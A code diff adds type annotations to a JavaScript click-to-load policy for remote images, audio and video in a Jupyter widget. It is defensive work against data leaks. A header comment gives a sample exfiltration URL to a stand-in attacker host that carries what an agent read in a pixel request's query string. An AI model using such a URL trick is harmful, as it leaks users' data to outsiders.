@@ -1,3 +1,4 @@
+// @ts-check
 // Remote content by consent. An image, audio or video whose URL is http(s) loads only once the user clicks Load on
 // its placeholder, unless its origin is one of the widget's `trusted_origins`: a request to a URL an agent chose
 // can carry data out (https://attacker.example/pixel?q=<what it read>) or reach the Jupyter server's own API.
@@ -9,11 +10,17 @@ const KIND_NAMES = { image: "Image", audio: "Audio", video: "Video" };
 
 /** Which media URLs may load without a click, for one view of a widget. */
 export class RemoteMediaPolicy {
-  /** `readTrusted()` returns the current `trusted_origins` value (read at each decision: it is a synced trait). */
+  /**
+   * `readTrusted()` returns the current `trusted_origins` value (read at each decision: it is a synced trait).
+   * @param {() => unknown} [readTrusted]
+   */
   constructor(readTrusted = () => []) {
     this.readTrusted = readTrusted;
+    /** @type {unknown} the value `origins` was read from */
     this.entries = undefined;
+    /** @type {Set<string>} */
     this.origins = new Set();
+    /** @type {Set<string>} */
     this.consented = new Set(); // URLs the user loaded in this view: a redraw of their block shows them again
   }
 
@@ -26,12 +33,17 @@ export class RemoteMediaPolicy {
     return this.origins;
   }
 
-  /** Whether `src` (an allowed media src) may load now: not remote, from a trusted origin, or loaded by a click. */
+  /**
+   * Whether `src` (an allowed media src) may load now: not remote, from a trusted origin, or loaded by a click.
+   * @param {string} src
+   * @returns {boolean}
+   */
   allows(src) {
     const origin = remoteOrigin(src);
     return origin === null || this.consented.has(src) || this.trustedOrigins().has(origin);
   }
 
+  /** @param {string} src */
   consent(src) {
     this.consented.add(src);
   }
@@ -43,6 +55,14 @@ export const CLICK_TO_LOAD = new RemoteMediaPolicy();
 /**
  * A placeholder standing for media from `src` (`kind`: "image" | "audio" | "video"): what it is, the origin it
  * would be requested from, and a Load button that swaps in `create()` (a node or a list of nodes).
+ * @param {object} media
+ * @param {import("./urls.js").MediaKind} media.kind
+ * @param {string} media.name what the media is called (an image's alt text, a file's name)
+ * @param {string} media.src
+ * @param {boolean} [media.inline] a span in running text rather than a block
+ * @param {RemoteMediaPolicy} media.policy told of the consent a click gives
+ * @param {() => Node | Node[]} media.create
+ * @returns {HTMLElement}
  */
 export function remotePlaceholder({ kind, name, src, inline, policy, create }) {
   const origin = remoteOrigin(src) ?? "";
